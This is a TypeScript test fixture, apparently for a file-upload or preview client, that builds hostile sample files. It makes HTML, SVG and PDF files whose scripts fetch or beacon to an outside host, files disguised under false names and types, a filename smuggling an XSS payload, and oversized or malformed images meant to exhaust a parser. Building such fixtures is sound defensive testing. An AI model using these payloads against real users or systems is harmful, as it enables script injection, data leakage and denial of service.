import { crc32, deflateSync } from "node:zlib";
import type { SourceFile } from "@envoi/client";
import { pdfFile, pdfStream } from "./pdf-file.ts";

const MiB = 1_048_576;
const toBytes = (text: string) => new Uint8Array(Buffer.from(text));

export function sourceFile(name: string, type: string, bytes: Uint8Array<ArrayBuffer>): SourceFile {
  return { name, type, size: bytes.byteLength, stream: () => new Blob([bytes]).stream() };
}

/** A file of any length, made by repeating one piece. */
export function repeatedFile(
  name: string,
  type: string,
  { head, piece, count }: { head: Uint8Array; piece: Uint8Array; count: number },
): SourceFile {
  const stream = () => {
    let at = -1;
    return new ReadableStream<Uint8Array<ArrayBuffer>>({
      pull(controller) {
        controller.enqueue(new Uint8Array(at < 0 ? head : piece));
        at += 1;
        if (at >= count) controller.close();
      },
    });
  };
  return { name, type, size: head.byteLength + piece.byteLength * count, stream };
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type), data]);
  const chunk = Buffer.alloc(body.length + 8);
  chunk.writeUInt32BE(data.length, 0);
  body.copy(chunk, 4);
  chunk.writeUInt32BE(crc32(body), chunk.length - 4);
  return chunk;
}

/** A single-colour image. */
export function png(width: number, height: number, [red, green, blue]: readonly [number, number, number]) {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  // Three channels of eight bits each.
  header.set([8, 2], 8);
  const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(3 * width, Buffer.from([red, green, blue]))]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: Math.min(height, 2_000) }, () => row)));
  const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const chunks = [pngChunk("IHDR", header), pngChunk("IDAT", pixels), pngChunk("IEND", Buffer.alloc(0))];
  return new Uint8Array(Buffer.concat([signature, ...chunks]));
}

/** A PDF with blue pages that runs a script when it is opened. */
export function pdf(outside: string, pages: number): Uint8Array<ArrayBuffer> {
  const kids = Array.from({ length: pages }, (_, at) => `${6 + at} 0 R`).join(" ");
  const drawing = "0 0 1 rg 0 0 600 800 re f 1 g BT /F1 40 Tf 60 700 Td (Hello) Tj ET";
  const objects = [
    "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
    `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>`,
    `<< /S /JavaScript /JS (app.alert\\("ran"\\); this.submitForm\\("${outside}/pdf-form"\\);) >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    pdfStream("", drawing),
    ...Array.from(
      { length: pages },
      () =>
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Contents 5 0 R /Resources << /Font << /F1 4 0 R >> >> /AA << /O << /S /URI /URI (${outside}/pdf-link) >> >> >>`,
    ),
  ];
  return pdfFile(objects);
}

/** A chain of HEIF boxes, at each of which a careless reader would search all following boxes. */
function heifChain(): Uint8Array<ArrayBuffer> {
  const type = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypheic"), Buffer.alloc(12)]);
  const box = Buffer.concat([Buffer.from([0, 0, 0, 20]), Buffer.from("ispe"), Buffer.alloc(12, 1)]);
  return new Uint8Array(Buffer.concat([type, ...Array.from({ length: 50_000 }, () => box)]));
}

/** A GIF with a one-pixel screen and a frame of 23,000 by 23,000 pixels. */
const GIF_LIE = Buffer.from("474946383961010001000000002c00000000d859d85900020144003b", "hex");
/**
 * A JPEG with markers that have no length, a comment that looks like a frame of 1 by 1 pixels, and a frame of 30,000
 * by 30,000 pixels.
 */
const JPEG_LIE = Buffer.from(
  "ffd8ff01ffd0fffe000fffc0000b080001000101011100ffffffc0000b08753075300101" + "1100ffda0008010100003f00",
  "hex",
);

/** Files that would run scripts or send requests to another origin if opened in a browser. */
export function hostileFiles(outside: string): SourceFile[] {
  const script = `fetch("${outside}/fetched"); new Image().src = "${outside}/beacon"; alert("ran"); top.document.title = "ran"`;
  const html = `<!doctype html><img src="${outside}/img" onerror='${script}'><script>${script}</script>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload='${script}'><image href="${outside}/svg"/><script>${script}</script></svg>`;
  return [
    sourceFile("page.html", "text/html", toBytes(html)),
    sourceFile("drawing.svg", "image/svg+xml", toBytes(svg)),
    // An SVG with the name and type of a PNG.
    sourceFile("photo.png", "image/png", toBytes(svg)),
    sourceFile("form.xml", "application/xml", toBytes(`<?xml-stylesheet href="${outside}/xsl"?><a>${svg}</a>`)),
    sourceFile("script.pdf", "application/pdf", pdf(outside, 2)),
    sourceFile("broken.pdf", "application/pdf", toBytes(`%PDF-1.7\n${html}`)),
    sourceFile("huge.png", "image/png", png(30_000, 30_000, [9, 9, 9])),
    sourceFile("huge.gif", "image/gif", new Uint8Array(GIF_LIE)),
    sourceFile("huge.jpg", "image/jpeg", new Uint8Array(JPEG_LIE)),
    sourceFile("chain.png", "image/png", heifChain()),
    sourceFile(
      "zeros.jpg",
      "image/jpeg",
      new Uint8Array(Buffer.concat([Buffer.from("ffd8ff", "hex"), Buffer.alloc(MiB)])),
    ),
    sourceFile(
      "list.webm",
      "video/webm",
      toBytes(`#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${outside}/segment.ts\n`),
    ),
    sourceFile("\u202egnp.<img src=x onerror=alert(1)>.txt", "text/plain", toBytes("a name")),
  ];
}
